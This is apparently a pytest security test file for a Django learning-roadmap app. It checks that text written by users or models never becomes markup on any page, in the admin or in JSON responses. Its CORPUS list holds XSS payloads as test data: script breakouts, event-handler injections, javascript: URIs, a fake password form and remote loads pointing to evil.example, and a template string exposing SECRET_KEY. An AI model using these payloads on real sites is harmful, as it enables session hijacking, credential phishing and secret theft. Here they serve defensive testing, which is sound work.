"""What strangers and models write stays text: on every page and in the admin, whatever field it came by (G2)."""

import itertools
import re
from collections.abc import Iterable, Iterator
from html.parser import HTMLParser
from typing import Any

import pytest
from django.contrib import admin
from django.contrib.admin.models import CHANGE
from django.contrib.admin.models import LogEntry as Noted
from django.contrib.auth.models import Group
from django.contrib.contenttypes.models import ContentType
from django.db.models import Model
from django.urls import resolve, reverse
from django.utils import timezone
from django_q.models import Failure, OrmQ, Schedule, Success

from content import answering, rendering, spans
from content.answers import url_problem
from content.models import Note, Share, Tutorial
from roadmap_project import api_tokens
from roadmap_project.models import ApiToken, ConnectionSample
from roadmaps import starting
from roadmaps.models import (
    ClusterHeartbeat,
    Concept,
    ConceptProgress,
    Feedback,
    LibrarySubject,
    Mail,
    ModelCall,
    Profile,
    ProviderPause,
    QueueHeartbeat,
    Roadmap,
    Step,
)
from tests.content.test_rendering import HOSTILE, SCHEMES, seen
from tests.factories import (
    make_feedback,
    make_log_entry,
    make_quiz,
    make_resources,
    make_review,
    make_revision,
    make_roadmap,
    make_step,
    make_tree,
    make_tutorial,
    make_user,
    make_written_roadmap,
)
from tests.programs import Program
from tests.test_security_ownership import ABOUT_SOMETHING, EVERY, address

pytestmark = pytest.mark.django_db

PLAIN = "Plain words"
TEXT_ELEMENTS = {"br", "p"}  # what lines become
SPAN = re.compile("<(code|em|strong)")
LINKS = ("href", "src", "action", "formaction", "data", "poster", "xlink:href")


# Addresses of the admin's that are no pages, or nobody's words; and models of which nobody's words are shown.
NO_PAGES = {"admin:autocomplete", "admin:jsi18n", "admin:login", "admin:logout", "admin:view_on_site"}
OF_MIGRATIONS = {Group, Schedule}  # whose rows a test before may have emptied
WITHOUT_WORDS = {ClusterHeartbeat, ConnectionSample, Failure, OrmQ, QueueHeartbeat, Success}

EXPECTED: dict[str, dict[str, "Skeleton"]] = {}  # of the pages where all words are plain, made once


class Skeleton(HTMLParser):
    """A page's elements with the names of their attributes, and where its links lead."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.elements: list[tuple[str, tuple[str, ...]]] = []
        self.links: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        is_next_line = tag == "text" and self.elements and self.elements[-1][0] == "text"  # of a name in a picture
        if tag not in TEXT_ELEMENTS and not is_next_line:
            self.elements.append((tag, tuple(sorted(name for name, _ in attrs))))
        self.links += [value or "" for name, value in attrs if name in LINKS]


class Everything:
    """One roadmap in review and one that is written, of one owner, with the same words in every field that has any.

    A line's field takes what of them fits, and shorter fields take them in turns.
    """

    def __init__(self, owner, *words: str) -> None:
        self.words = "\n\n".join(words)
        self.line, self.owner = self.words[:200], owner
        self.model = words[-1][:100]  # one, as calls are summed by it
        self._in_turns = itertools.cycle(words)
        self.review = self._tree(make_roadmap(owner=owner, goal="g", state=Roadmap.State.IN_REVIEW))
        self.written = self._tree(make_written_roadmap(owner=owner, state=Roadmap.State.PARTLY_READY, concepts=1))
        self._review()
        self._pieces()

    def _short(self, length: int) -> str:
        return next(self._in_turns)[:length]

    def _tree(self, roadmap: Roadmap) -> Roadmap:
        if not roadmap.concepts.exists():
            make_tree(roadmap=roadmap, concepts=1)
        texts = ("goal", "motivation", "background", "rationale", "notice")
        lines = {"title": self.line, "origin": self.line, "language": self._short(40)}
        Roadmap.objects.filter(pk=roadmap.pk).update(**dict.fromkeys(texts, self.words), **lines)
        for parts in (roadmap.stages, roadmap.concepts):
            parts.update(name=self.line, description=self.words)
        roadmap.stages.get().modules.update(name=self.line, description=self.words)
        Concept.objects.filter(roadmap=roadmap).update(keywords=[self.words, f"{self.words}!", f"{self.words}?"])
        make_log_entry(roadmap=roadmap, event=self._short(100), message=self.words, details={self.words: self.words})
        ModelCall.objects.create(
            roadmap=roadmap,
            purpose="quiz",
            provider="p",
            model=self.model,
            outcome="x",
            latency=1,
            error=self.words,
        )
        roadmap.refresh_from_db()
        return roadmap

    def _review(self) -> None:
        revision = make_revision(roadmap=self.review, number=2, reason=self.words)
        issue = {"severity": "critical", "location": self.words, "issue": self.words, "suggestion": self.words}
        advice = {"action": self.words, "location": self.words, "content": self.words, "reason": self.words}
        score = {"structure": {"score": 5, "reason": self.words}}
        make_review(revision=revision, issues=[issue], suggestions=[advice], scores=score, origin=self.line)
        state = Feedback.State.QUESTION
        make_feedback(roadmap=self.review, text=self.words, answer=self.words, questions=[self.words], state=state)

    def _pieces(self) -> None:
        self.concept = self.written.concepts.get()
        self.written.steps.filter(kind="quiz").update(state=Step.State.FAILED, last_error=self.words, wish=self.words)
        make_step(roadmap=self.written, kind=Step.Kind.ANALYSE, state="failed", last_error=self.words)
        lines = {"title": self.line, "summary": self.words[:300], "origin": self.line, "wish": self.words}
        self.tutorial = make_tutorial(concept=self.concept, markdown=self.words, **lines)
        resources = {"title": self.line, "description": self.words, "language": self._short(40)}
        make_resources(concept=self.concept, note=self.words, count=1, **resources)
        asked = [("single_choice", self.words, [self.words, self.words + "!"], [0], self.words)]
        self.attempt = answering.answer(make_quiz(concept=self.concept, questions=asked), user=self.owner, submitted={})
        Note.objects.create(concept=self.concept, user=self.owner, text=self.words, saved_at=timezone.now())
        ConceptProgress.objects.create(concept=self.concept, user=self.owner)
        self.share = Share.objects.create(roadmap=self.written)
        Profile.objects.update_or_create(user=self.owner, defaults={"background": self.words})
        self._operators_rows()

    def _operators_rows(self) -> None:
        for model in (ApiToken, LibrarySubject, Mail, Noted, ProviderPause):
            model.objects.all().delete()
        api_tokens.make(user=self.owner, name=" ".join(self._short(100).split()))

        lines = {"title": self.line, "subject": {}, "concepts": {}, "author": self.owner}
        LibrarySubject.objects.create(key="words", is_offered=False, **lines).versions.create(number=1, **lines)
        Mail.objects.create(user=self.owner, kind=Mail.Kind.PASSWORD, address=self.words[:200], last_error=self.words)
        ProviderPause.objects.create(provider="openai", until=timezone.now(), reason=self.words)
        for row in (self.written, self.concept, self.owner):
            about = {"object_id": row.pk, "object_repr": self.line, "change_message": self.words}
            Noted.objects.create(
                user=self.owner, content_type=ContentType.objects.get_for_model(row), action_flag=CHANGE, **about
            )

    def paths(self) -> dict[str, str]:
        concept = [self.written.slug, self.concept.key]
        quiz = reverse("content:quiz", args=concept)
        return {
            "list": "/",
            "review": self.review.get_absolute_url(),
            "progress": reverse("roadmaps:progress", args=[self.review.slug]),
            "edit": reverse("roadmaps:edit", args=[self.review.slug]),
            "outline versions": reverse("roadmaps:versions", args=[self.review.slug]),
            "written": self.written.get_absolute_url(),
            "log": reverse("roadmaps:log", args=[self.written.slug]),
            "concept": reverse("content:concept", args=concept),
            "pieces": reverse("content:pieces", args=concept),
            "quiz": quiz,
            "result": f"{quiz}?attempt={self.attempt.pk}",
        }

    def further_paths(self) -> dict[str, str]:
        concept = [self.written.slug, self.concept.key]
        question = self.attempt.quiz.questions.get()
        return {
            "take away": reverse("content:take_away", args=[self.written.slug]),
            "practice": f"{reverse('content:practice', args=[self.written.slug])}?left={question.pk}",
            **{kind: reverse("content:versions", args=[*concept, kind]) for kind in Step.CONTENT_KINDS},
            "shared": reverse("content:shared", args=[self.share.token]),
            "shared concept": reverse("content:shared_concept", args=[self.share.token, self.concept.key]),
            "account": reverse("roadmaps:account"),
            "tokens": reverse("tokens"),
            "shared quiz": reverse("content:shared_quiz", args=[self.share.token, self.concept.key]),
        }

    def admin_paths(self) -> dict[str, str]:
        """Every page of the admin, found by walking the URL configuration; of each model the first row's."""
        paths = {}
        for name, takes in EVERY:
            if name.startswith("admin:") and not name.endswith("None") and name not in NO_PAGES:
                row = self._row(name) if takes - {"app_label"} else None
                if row is not None or not takes - {"app_label"}:
                    values = dict.fromkeys(takes, row and row.pk) | {"app_label": "roadmaps"}
                    paths[name] = reverse(name, kwargs={part: values[part] for part in takes})
        return paths

    def _row(self, name: str) -> Any:
        model = model_of(name)
        return self.written if model is Roadmap else model._default_manager.order_by("pk").first()

    def skeleton(self, client, path: str) -> Skeleton:
        """Without the elements that Markdown makes, which the allow-lists of its renderers judge."""
        response = client.get(path)
        is_refused = path.startswith("/admin/") and response.status_code == 403  # adding, changing or deleting
        assert response.status_code == 200 or is_refused, path
        page = response.content.decode()
        asked = [spans.to_html(each) for each in (f"{self.words}!", self.words)]
        with_spans = [each for each in asked if SPAN.search(each)]
        tutorials = (response.context.get("html", ""), self.tutorial.html)  # the first may hold the second
        for rendered in (*tutorials, *with_spans):
            page = page.replace(rendered, "")
        return Skeleton(page)


def model_of(name: str) -> type[Model]:
    """Whose page in the admin bears this name; a model's name may begin like another's."""
    labels = {f"admin:{model._meta.app_label}_{model._meta.model_name}_": model for model in admin.site._registry}
    return labels[max((each for each in labels if name.startswith(each)), key=len)]


def same_skeletons(client, owner, words: Iterable[str], which: str) -> None:
    if which not in EXPECTED:
        plain = Everything(owner, PLAIN)
        EXPECTED[which] = {name: plain.skeleton(client, path) for name, path in getattr(plain, which)().items()}
        Roadmap.objects.all().delete()
        ModelCall.objects.all().delete()
    hostile = Everything(owner, *words)
    for name, path in getattr(hostile, which)().items():
        found = hostile.skeleton(client, path)
        assert found.elements == EXPECTED[which][name].elements, name
        wrong = [link for link in found.links if link and not link.lower().startswith((*SCHEMES, "?", ".."))]
        assert [link for link in wrong if not link[0].isalnum() or ":" in link] == [], name
    seen(hostile.words)
    assert hostile.tutorial.html == rendering.to_html(hostile.words)


CORPUS = [text for each in HOSTILE if (text := each.replace("\x00", "")).strip()] + [
    "</script><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><img src=x onerror=alert(1)>",
    "</p></article></main><form action=//evil.example><input name=password>",
    "\"><img src=x onerror=alert(1)>",
    "' onmouseover='alert(1)",
    "\" autofocus onfocus=\"alert(1)",
    "'\"><svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:xlink=x><use xlink:href=\"data:x\"/></svg>",
    "<html xmlns:on=x><on:script>alert(1)</on:script>",
    "＜script＞alert(1)＜/script＞",
    "<ſcript>alert(1)</ſcript>",
    "<script\u2028>alert(1)</script>",
    "\ufeff<script>alert(1)</script>",
    "<a href=\"\u2001javascript:alert(1)\">x</a>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<link rel=stylesheet href=//evil.example>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<xmp><script>alert(1)</script></xmp>",
    "<plaintext>",
    "<!DOCTYPE html><html onload=alert(1)>",
    "<div hx-get=//evil.example hx-trigger=load>",
    "<input type=image src=x onerror=alert(1)>",
    "{% debug %}{{ settings.SECRET_KEY }}",
]  # fmt: skip


def lines_of(corpus: Iterable[str]) -> Iterator[list[str]]:
    """As many at once as fit into a line's field, so that each is whole in all fields but the shortest."""
    together: list[str] = []
    for each in corpus:
        if together and len("\n\n".join([*together, each])) > 200:
            yield together
            together = []
        together.append(each)
    yield together


@pytest.fixture
def owner(client):
    user = make_user(username="ada", is_staff=True, is_superuser=True)
    client.force_login(user)
    return user


def test_the_corpus_is_large():
    assert len(set(CORPUS)) >= 90


def test_every_page_about_something_is_looked_at(client, owner):
    """By walking the URL configuration: a page that is added and forgotten here fails."""
    everything = Everything(owner, PLAIN)
    paths = everything.paths() | everything.further_paths()
    looked_at = {resolve(path.partition("?")[0]).view_name for path in paths.values()}

    def is_page(name):
        addresses = [
            address(name, each, share=everything.share.token) for each in (everything.written, everything.review)
        ]
        answers = [client.get(path) for path in addresses]
        return any(each.status_code == 200 and each["Content-Type"].startswith("text/html") for each in answers)

    assert {name for name in ABOUT_SOMETHING if is_page(name)} == looked_at - {
        "roadmaps:list",
        "roadmaps:account",
        "tokens",
    }


@pytest.mark.parametrize("words", list(lines_of(CORPUS)), ids=" ".join)
def test_G2_no_element_and_no_attribute_comes_from_what_somebody_wrote(client, owner, words):
    same_skeletons(client, owner, words, "paths")


@pytest.mark.parametrize("start", range(3))
def test_G2_nor_in_the_admin(client, owner, start):
    same_skeletons(client, owner, CORPUS[start::3], "admin_paths")


def test_every_row_that_holds_words_has_its_page_of_the_admin_looked_at(owner):
    """A model that is registered and forgotten here fails; that its pages are pages, the test above finds."""
    Everything(owner, PLAIN)
    without = {model for model in admin.site._registry if not model._default_manager.exists()}

    assert without - OF_MIGRATIONS == WITHOUT_WORDS


@pytest.mark.parametrize("start", range(2))
def test_G2_nor_on_pages_about_versions_sharing_and_the_account(client, owner, start):
    """Half of the corpus at once, as these show what the pages above show; lines take their beginnings."""
    same_skeletons(client, owner, CORPUS[start::2][::-1], "further_paths")


def test_G2_programs_are_told_it_as_json_and_as_nothing_else(owner):
    everything, program = Everything(owner, *CORPUS), Program(owner)

    for path in ("", f"/concepts/{everything.concept.key}", "/log", "/export/json"):
        answer = program("get", f"roadmaps/{everything.written.slug}{path}")

        assert answer.status_code == 200, path
        assert answer.headers["Content-Type"].startswith("application/json")
        assert answer.headers["X-Content-Type-Options"] == "nosniff"
        assert CORPUS[0].strip() in str(answer.json())


@pytest.mark.parametrize("words", CORPUS[::6])
def test_G2_a_goal_is_shown_as_it_was_typed(client, owner, words, library):
    """By the real way in, and back into the form where it is refused."""
    plain = Skeleton(client.post("/new/", {"goal": PLAIN}).content.decode())
    refused = Skeleton(client.post("/new/", {"goal": words}).content.decode())
    roadmap = starting.start(owner=owner, goal=words)

    assert refused.elements == plain.elements
    assert roadmap.goal == " ".join(words.split())
    assert "<script" not in client.get(roadmap.get_absolute_url()).content.decode().partition("</head>")[2]


@pytest.mark.parametrize("url", [each for each in CORPUS if "http" not in each and "mailto" not in each])
def test_G2_nothing_hostile_is_a_resources_address(url):
    assert url_problem(url)


def test_G2_an_editor_cannot_save_what_is_active(client, owner):
    tutorial = Everything(owner, PLAIN).tutorial
    hostile = [each for each in CORPUS if each.count("```") % 2 == 0]  # an open code block is refused by its own rule

    client.post(
        reverse("admin:content_tutorial_change", args=[tutorial.pk]),
        {"title": "Mended", "summary": "s", "minutes": 5, "markdown": "## Overview\n\n" + "\n\n".join(hostile)},
    )

    edited = Tutorial.objects.current().get()
    assert edited.version == 2
    assert edited.html == rendering.to_html(edited.markdown)
    seen(edited.markdown)
